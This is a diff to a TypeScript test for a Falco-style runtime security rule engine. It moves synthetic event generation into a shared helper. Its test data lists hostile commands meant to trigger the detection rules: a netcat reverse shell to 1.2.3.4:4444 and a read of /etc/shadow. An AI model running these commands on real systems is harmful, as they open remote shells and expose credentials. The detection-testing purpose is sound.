@@ -4,7 +4,6 @@
 // runs Falco's stable rules on live state (the state tracker) over events of many kinds.
 
 import { describe, expect, test } from "bun:test";
-import type { Event } from "../../agent/events/index.ts";
 import type { CheckedExpr } from "../../agent/rules/condition/checked.ts";
 import { type FieldBinder, macrosUsedOnce } from "../../agent/rules/condition/plan.ts";
 import { type EngineOptions, RuleEngine } from "../../agent/rules/engine.ts";
@@ -13,6 +12,7 @@ import { liveBinder, liveEventKey, liveText } from "../../agent/rules/live.ts";
 import { loadRuleSources } from "../../agent/rules/load/load.ts";
 import { StateTracker } from "../../agent/state/tracker.ts";
 import { UserTable } from "../../agent/state/users.ts";
+import { type MixProgram, processMix } from "./process-mix.ts";
 
 type Ctx = Map<string, FieldValue>;
 
@@ -109,7 +109,7 @@ describe("rules planned per event type", () => {
           pathBases: { cwd: () => "/", fdPath: () => undefined },
         }),
     );
-    const programs: [string, string, string[]][] = [
+    const programs: MixProgram[] = [
       ["bash", "/bin/bash", ["-i"]],
       ["cat", "/usr/bin/cat", ["/etc/shadow"]],
       ["nc", "/usr/bin/nc", ["-e", "/bin/sh", "1.2.3.4", "4444"]],
@@ -119,47 +119,11 @@ describe("rules planned per event type", () => {
     ];
     const paths = ["/etc/shadow", "/etc/passwd", "/var/log/syslog", "/tmp/x", "/etc/pam.d/sshd", "/dev/null"];
     const fired: string[][] = [[], []];
-    let num = 0;
-    for (let i = 0; i < 240; i++) {
-      const [comm, exe, args] = programs[i % programs.length];
-      const pid = 5000 + i;
-      const base = { tid: pid, pid, cut: 0, bootSec: 100 };
-      const events: Event[] = [
-        {
-          ...base,
-          num: ++num,
-          kind: "execve",
-          bootNsec: num,
-          res: 0,
-          ppid: 1,
-          uid: i % 2 === 0 ? 0 : 1000,
-          gid: 0,
-          comm,
-          filename: exe,
-          args: [exe, ...args],
-          cgroup: i % 3 === 0 ? "/system.slice/x.service" : `/kubepods/besteffort/pod1/${"cd".repeat(32)}`,
-        },
-      ];
-      for (let j = 0; j < paths.length; j++)
-        events.push({
-          ...base,
-          num: ++num,
-          kind: j % 2 === 0 ? "openat" : "open",
-          bootNsec: num,
-          res: 3 + j,
-          dirfd: -100,
-          path: paths[(i + j) % paths.length],
-          flags: j % 3 === 0 ? 0o1101 : 0,
-          mode: 0o644,
-          resolve: 0,
-        } as Event);
-      events.push({ ...base, num: ++num, kind: "procexit", bootNsec: num, exitCode: 0 });
-      for (const e of events)
-        for (let k = 0; k < 2; k++) {
-          const ctx = trackers[k].apply(e);
-          engines[k].evaluate(e.kind, ctx, (r) => fired[k].push(`${e.num} ${r.rule.name}`));
-        }
-    }
+    for (const e of processMix(programs, paths, 240))
+      for (let k = 0; k < 2; k++) {
+        const ctx = trackers[k].apply(e);
+        engines[k].evaluate(e.kind, ctx, (r) => fired[k].push(`${e.num} ${r.rule.name}`));
+      }
     expect(fired[0].length).toBeGreaterThan(100);
     expect(fired[0]).toEqual(fired[1]);
   });
